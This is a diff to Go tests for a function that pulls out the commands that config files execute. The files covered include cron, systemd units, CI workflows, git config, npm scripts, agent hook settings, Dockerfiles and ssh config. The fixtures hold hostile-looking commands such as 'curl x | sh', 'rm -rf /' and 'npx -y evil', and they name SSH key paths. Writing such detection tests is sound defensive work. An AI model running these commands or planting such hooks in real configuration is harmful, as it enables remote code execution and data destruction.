@@ -170,38 +170,64 @@ func TestPayloads(t *testing.T) {
 		want             []string
 	}{
 		{"script", "x.sh", "rm -rf /\n", []string{"sh:rm -rf /\n"}},
-		{"shebang over ending", "x.sh", "#!/usr/bin/env python3\nimport os", []string{"python:#!/usr/bin/env python3\nimport os"}},
+		{"shebang over ending", "x.sh", "#!/usr/bin/env python3\nimport os",
+			[]string{"python:#!/usr/bin/env python3\nimport os"}},
 		{"env -S", "tool", "#!/usr/bin/env -S node --x\n1", []string{"node:#!/usr/bin/env -S node --x\n1"}},
 		{"unknown interpreter", "tool", "#!/opt/x\n1", []string{":"}},
 		{"plain", "README.md", "rm -rf /", nil},
 		{"no place", effect.Unknown, "rm -rf /", []string{":"}},
-		{"cron", "/etc/crontab", "# x\nSHELL=/bin/sh\n* * * * * root curl x | sh\n@reboot root id\n", []string{"sh:SHELL=/bin/sh", "sh:curl x | sh", "sh:id"}},
-		{"user cron", "/var/spool/cron/a", "*/5 * * * * a=1 id\n0 0 * * * mail -s x%body%\n", []string{"sh:a=1 id", "sh:mail -s x <<'CRON_INPUT'\nbody\n\nCRON_INPUT"}},
-		{"unit", "/etc/systemd/system/x.service", "[Service]\nExecStart=-/bin/sh -c 'id; \\\n x'\nUser=root\nExecStop = kill 1", []string{"sh:/bin/sh -c 'id; \n x'", "sh:kill 1"}},
+		{"cron", "/etc/crontab", "# x\nSHELL=/bin/sh\n* * * * * root curl x | sh\n@reboot root id\n",
+			[]string{"sh:SHELL=/bin/sh", "sh:curl x | sh", "sh:id"}},
+		{"user cron", "/var/spool/cron/a", "*/5 * * * * a=1 id\n0 0 * * * mail -s x%body%\n",
+			[]string{"sh:a=1 id", "sh:mail -s x <<'CRON_INPUT'\nbody\n\nCRON_INPUT"}},
+		{"unit", "/etc/systemd/system/x.service",
+			"[Service]\nExecStart=-/bin/sh -c 'id; \\\n x'\nUser=root\nExecStop = kill 1",
+			[]string{"sh:/bin/sh -c 'id; \n x'", "sh:kill 1"}},
 		{"desktop", "~/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c id", []string{"sh:sh -c id"}},
-		{"plist", "~/Library/LaunchAgents/x.plist", "<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl x | sh</string></array></dict></plist>", []string{"sh:sh -c 'curl x | sh'"}},
-		{"ci", ".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n      - uses: x@v1\n      - name: rm -rf /\n        run: |\n          echo ${{ github.event.title }}\n      - run: print(1)\n        shell: python\n", []string{"sh:echo \x00\n", "python:print(1)"}},
+		{"plist", "~/Library/LaunchAgents/x.plist",
+			"<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl x | sh</string></array></dict></plist>", []string{"sh:sh -c 'curl x | sh'"}},
+		{"ci", ".github/workflows/x.yml",
+			"on: push\njobs:\n  a:\n    steps:\n      - uses: x@v1\n      - name: rm -rf /\n        run: |\n" +
+				"          echo ${{ github.event.title }}\n      - run: print(1)\n        shell: python\n",
+			[]string{"sh:echo \x00\n", "python:print(1)"}},
 		{"ci in an unknown shell", ".github/workflows/x.yml", "steps:\n  - run: x\n    shell: frob {0}\n", []string{":"}},
-		{"gitlab", ".gitlab-ci.yml", "a:\n  script:\n    - id\n    - curl x\n  after_script: [ls]\n", []string{"sh:id\ncurl x", "sh:ls"}},
+		{"gitlab", ".gitlab-ci.yml", "a:\n  script:\n    - id\n    - curl x\n  after_script: [ls]\n",
+			[]string{"sh:id\ncurl x", "sh:ls"}},
 		{"broken yaml", ".gitlab-ci.yml", "a: [\n  b: {", []string{":"}},
-		{"git", ".git/config", "[core]\n\tsshCommand = \"ssh -o x\" # c\n\tbare = false\n[alias]\n\tx = !sh -c id\n\tst = status\n[credential]\n\thelper = store\n[filter \"a\"]\n\tclean = evil %f\n", []string{"sh:ssh -o x", "sh:sh -c id", "sh:git status", "sh:git-credential-store", "sh:evil %f"}},
+		{"git", ".git/config",
+			"[core]\n\tsshCommand = \"ssh -o x\" # c\n\tbare = false\n[alias]\n\tx = !sh -c id\n\tst = status\n" +
+				"[credential]\n\thelper = store\n[filter \"a\"]\n\tclean = evil %f\n", []string{"sh:ssh -o x", "sh:sh -c id",
+				"sh:git status", "sh:git-credential-store", "sh:evil %f"}},
 		{"git hooks path", ".gitconfig", "[core] hooksPath = /tmp/h", []string{":/tmp/h"}},
 		{"git ext", ".git/config", "[remote \"o\"]\nurl = ext::sh -c id", []string{"sh:sh -c id"}},
-		{"npm", "package.json", `{"name":"x","scripts":{"postinstall":"curl x|sh","build":"tsc"}}`, []string{"sh:tsc", "sh:curl x|sh"}},
+		{"npm", "package.json", `{"name":"x","scripts":{"postinstall":"curl x|sh","build":"tsc"}}`,
+			[]string{"sh:tsc", "sh:curl x|sh"}},
 		{"broken json", "package.json", `{"scripts":`, []string{":"}},
-		{"tasks with comments", ".vscode/tasks.json", "{ // c\n \"tasks\":[{\"command\":\"sh\",\"args\":[\"-c\",\"id\"],},]}", []string{"sh:sh -c id"}},
-		{"hooks", ".claude/settings.json", `{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]},"env":{"PATH":"/tmp"}}`, []string{"sh:curl x | sh", "sh:export PATH=/tmp"}},
+		{"tasks with comments", ".vscode/tasks.json",
+			"{ // c\n \"tasks\":[{\"command\":\"sh\",\"args\":[\"-c\",\"id\"],},]}", []string{"sh:sh -c id"}},
+		{"hooks", ".claude/settings.json",
+			`{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]},"env":{"PATH":"/tmp"}}`,
+			[]string{"sh:curl x | sh", "sh:export PATH=/tmp"}},
 		{"mcp", ".mcp.json", `{"mcpServers":{"a":{"command":"npx","args":["-y","evil"]}}}`, []string{"sh:npx -y evil"}},
-		{"codex", "~/.codex/config.toml", "[mcp_servers.a]\ncommand = \"npx\"\nargs = [\"-y\", \"evil\"]\nnotify = [\"sh\",\"-c\",\"id\"]", []string{"sh:sh -c id", "sh:npx -y evil"}},
-		{"make", "Makefile", "X := $(shell id)\nall: x ; echo a\n\t@rm -rf $(DIR) \\\n\t  $$HOME\n\tls\n", []string{"sh:id", "sh: echo a", "sh:rm -rf \x00 \n\t  $HOME\nls\n"}},
-		{"docker", "Dockerfile", "FROM x\nRUN --mount=type=secret curl x \\\n | sh\nCMD [\"sh\",\"-c\",\"id x\"]\nRUN <<EOF\nid\nEOF\n", []string{"sh:curl x \n | sh", "sh:sh -c 'id x'", "sh:id\n"}},
-		{"key", "~/.ssh/authorized_keys", "no-pty,command=\"sh -c \\\"id\\\"\" ssh-rsa AAAA\nssh-rsa BBB", []string{"sh:sh -c \"id\""}},
+		{"codex", "~/.codex/config.toml",
+			"[mcp_servers.a]\ncommand = \"npx\"\nargs = [\"-y\", \"evil\"]\nnotify = [\"sh\",\"-c\",\"id\"]",
+			[]string{"sh:sh -c id", "sh:npx -y evil"}},
+		{"make", "Makefile", "X := $(shell id)\nall: x ; echo a\n\t@rm -rf $(DIR) \\\n\t  $$HOME\n\tls\n",
+			[]string{"sh:id", "sh: echo a", "sh:rm -rf \x00 \n\t  $HOME\nls\n"}},
+		{"docker", "Dockerfile",
+			"FROM x\nRUN --mount=type=secret curl x \\\n | sh\nCMD [\"sh\",\"-c\",\"id x\"]\nRUN <<EOF\nid\nEOF\n",
+			[]string{"sh:curl x \n | sh", "sh:sh -c 'id x'", "sh:id\n"}},
+		{"key", "~/.ssh/authorized_keys", "no-pty,command=\"sh -c \\\"id\\\"\" ssh-rsa AAAA\nssh-rsa BBB",
+			[]string{"sh:sh -c \"id\""}},
 		{"ssh", "~/.ssh/config", "Host *\n  ProxyCommand nc %h %p\n  Match exec \"id\"\n", []string{"sh:nc %h %p", "sh:id"}},
 		{"pth", "x.pth", "../x\nimport os; os.system('id')\n", []string{"python:import os; os.system('id')\n"}},
 		{"udev", "/etc/udev/rules.d/x.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c id\"\n", []string{"sh:/bin/sh -c id"}},
-		{"jenkins", "Jenkinsfile", "stage('rm') { sh 'id'\n sh(script: \"\"\"a\nb\"\"\") \n echo 'rm -rf /' }", []string{"sh:id", "sh:a\nb"}},
-		{"compose", "docker-compose.yml", "services:\n  a:\n    command: [sh, -c, \"id x\"]\n    image: x\n", []string{"sh:sh -c 'id x'"}},
-		{"pre-commit", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c id\n", []string{"sh:sh -c id"}},
+		{"jenkins", "Jenkinsfile", "stage('rm') { sh 'id'\n sh(script: \"\"\"a\nb\"\"\") \n echo 'rm -rf /' }",
+			[]string{"sh:id", "sh:a\nb"}},
+		{"compose", "docker-compose.yml", "services:\n  a:\n    command: [sh, -c, \"id x\"]\n    image: x\n",
+			[]string{"sh:sh -c 'id x'"}},
+		{"pre-commit", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c id\n",
+			[]string{"sh:sh -c id"}},
 		{"binary in a program's place", "/usr/local/bin/git", "\x7fELF\x00", []string{":"}},
 		{"editor's honest settings", ".vscode/settings.json", `{"editor.fontSize": 12}`, nil},
 	} {
@@ -229,7 +255,8 @@ func TestPayloadLimits(t *testing.T) {
 		t.Errorf("too many: %q", got)
 	}
 	lim = content.DefaultLimits()
-	if got := payloads("package.json", strings.Repeat("[", 100)+strings.Repeat("]", 100), lim); !slices.Equal(got, []string{":"}) {
+	if got := payloads("package.json", strings.Repeat("[", 100)+strings.Repeat("]", 100), lim); !slices.Equal(got,
+		[]string{":"}) {
 		t.Errorf("too deep: %q", got)
 	}
 	if got := payloads(".gitlab-ci.yml", strings.Repeat("- ", 1000)+"a", lim); !slices.Equal(got, []string{":"}) {
@@ -238,7 +265,10 @@ func TestPayloadLimits(t *testing.T) {
 }
 
 func FuzzPayloads(f *testing.F) {
-	for _, s := range [][2]string{{".gitlab-ci.yml", "a: &x\n  script: [*x]\n"}, {"package.json", `{"scripts":{"a":1}}`}, {"~/.ssh/*", "x"}, {"Jenkinsfile", "sh '''"}, {".git/config", "[a.b] c = \"\\"}, {"/etc/{a,{b,c}}/@(x", ""}, {"x.pth", "import"}, {"a.plist", "<array>"}, {"Library/LaunchAgents/x", "<array><string>"}, {"Dockerfile", "RUN [\"\\\n<<"}, {"Makefile", "$(shell ((\n\t$"}, {"\x00/.ssh", "\x00"}} {
+	for _, s := range [][2]string{{".gitlab-ci.yml", "a: &x\n  script: [*x]\n"}, {"package.json", `{"scripts":{"a":1}}`},
+		{"~/.ssh/*", "x"}, {"Jenkinsfile", "sh '''"}, {".git/config", "[a.b] c = \"\\"}, {"/etc/{a,{b,c}}/@(x", ""},
+		{"x.pth", "import"}, {"a.plist", "<array>"}, {"Library/LaunchAgents/x", "<array><string>"},
+		{"Dockerfile", "RUN [\"\\\n<<"}, {"Makefile", "$(shell ((\n\t$"}, {"\x00/.ssh", "\x00"}} {
 		f.Add(s[0], s[1])
 	}
 	f.Fuzz(func(t *testing.T, path, text string) {
@@ -246,7 +276,8 @@ func FuzzPayloads(f *testing.F) {
 		if !effect.IsKnown(path) && s.Kind == content.Plain {
 			t.Errorf("%q is plain", path)
 		}
-		if up := content.Classify(strings.ToUpper(path)); isASCII(path) && !strings.Contains(path, "[") && (up.Kind != s.Kind || up.Secret != s.Secret) && !strings.ContainsAny(path, "$%") {
+		if up := content.Classify(strings.ToUpper(path)); isASCII(path) && !strings.Contains(path, "[") &&
+			(up.Kind != s.Kind || up.Secret != s.Secret) && !strings.ContainsAny(path, "$%") {
 			t.Errorf("%q: %v, in capitals %v", path, s, up)
 		}
 		lim := content.DefaultLimits()
@@ -266,7 +297,8 @@ func FuzzPayloads(f *testing.F) {
 func isASCII(s string) bool { return strings.IndexFunc(s, func(r rune) bool { return r > 127 }) < 0 }
 
 func BenchmarkClassify(b *testing.B) {
-	for _, path := range []string{"/home/ada/project/src/components/Button.tsx", "~/.ssh/id_rsa", "/etc/systemd/system/x.service", "src/main.go", "/home/*/.ssh/id_*"} {
+	for _, path := range []string{"/home/ada/project/src/components/Button.tsx", "~/.ssh/id_rsa",
+		"/etc/systemd/system/x.service", "src/main.go", "/home/*/.ssh/id_*"} {
 		b.Run(path, func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
